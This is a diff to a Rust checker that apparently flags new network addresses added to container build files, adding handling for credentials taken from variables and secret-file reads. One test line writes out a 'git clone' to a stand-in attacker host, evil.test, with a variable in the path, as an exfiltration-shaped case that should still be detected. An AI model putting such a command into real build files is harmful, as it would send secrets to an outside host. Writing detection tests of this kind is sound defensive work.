@@ -41,6 +41,7 @@ fn new_address(check: &Check, change: &Change<'_>) -> Vec<Issue> {
     // A host without a scheme looks like a file, and one that the original names is one to it too.
     new.filter(|it| has_scheme(it) || !change.before.text.contains(it.as_str()))
         .filter(|address| !taken_apart(address).is_some_and(|it| is_local(it.host)))
+        .filter(|address| !change.limits.addresses.iter().any(|it| address.starts_with(it)))
         .map(|address| {
             let message = "an address that the original does not name must not be added";
             change.issue(check, message).quoting(&address)
@@ -57,14 +58,49 @@ fn of(view: &View<'_>) -> BTreeSet<String> {
         let heredocs = instruction.heredocs().iter().map(|it| it.content(view.text).into_owned());
         let texts = std::iter::once(instruction.body_text().to_owned()).chain(heredocs);
         for text in texts {
-            let plain = text.replace(['"', '\'', '\\'], "");
-            found.extend(in_text(&plain).map(str::to_owned));
+            let plain = without_reads(&text.replace(['"', '\'', '\\'], ""));
+            found.extend(in_text(&plain).map(without_credentials));
             if TALKERS.contains(&instruction.keyword) && !is_code {
                 found.extend(words(&plain).filter_map(bare_host).map(str::to_owned));
             }
         }
     }
     found
+}
+
+/// `$(cat /run/secrets/x)` is a value like `$X`.
+fn without_reads(text: &str) -> String {
+    let mut result = String::new();
+    let mut rest = text;
+    while let Some((before, behind)) = rest.split_once("$(cat /") {
+        result.push_str(before);
+        let end = behind.find(|c: char| !c.is_ascii_alphanumeric() && !"/._-".contains(c));
+        match end.and_then(|end| behind.split_at_checked(end)) {
+            Some((_, after)) if after.starts_with(')') => {
+                result.push_str("${}");
+                rest = after.get(1..).unwrap_or_default();
+            }
+            _ => {
+                result.push_str("$(cat /");
+                rest = behind;
+            }
+        }
+    }
+    result.push_str(rest);
+    result
+}
+
+/// Credentials out of a variable lead nowhere else.
+fn without_credentials(address: &str) -> String {
+    let Some((scheme, rest)) = address.split_once("://") else { return address.to_owned() };
+    let end = rest.find('/').unwrap_or(rest.len());
+    let authority = rest.get(..end).unwrap_or_default();
+    match authority.rsplit_once('@') {
+        Some((credentials, _)) if credentials.contains('$') => {
+            format!("{scheme}://{}", rest.get(credentials.len() + 1..).unwrap_or_default())
+        }
+        _ => address.to_owned(),
+    }
 }
 
 fn in_text(text: &str) -> impl Iterator<Item = &str> {
@@ -149,5 +185,19 @@ mod tests {
             assert_eq!(asked(command), [Address { host, path }], "{command}");
         }
         assert_eq!(asked("pg_isready -U postgres"), []);
+    }
+
+    #[test]
+    fn credentials_out_of_a_variable_or_a_secret_do_not_make_an_address_new() {
+        for (text, address) in [
+            ("git clone https://x:${TOKEN}@example.com/a", "https://example.com/a"),
+            ("git clone https://x:$(cat /run/secrets/t)@example.com/a", "https://example.com/a"),
+            ("git clone https://x:y@example.com/a", "https://x:y@example.com/a"),
+            ("git clone https://evil.test/$X@example.com/a", "https://evil.test/$X@example.com/a"),
+        ] {
+            let text = format!("FROM a\nRUN {text}\n");
+            let view = View::of(&text);
+            assert!(of(&view).contains(address), "{text}: {:?}", of(&view));
+        }
     }
 }
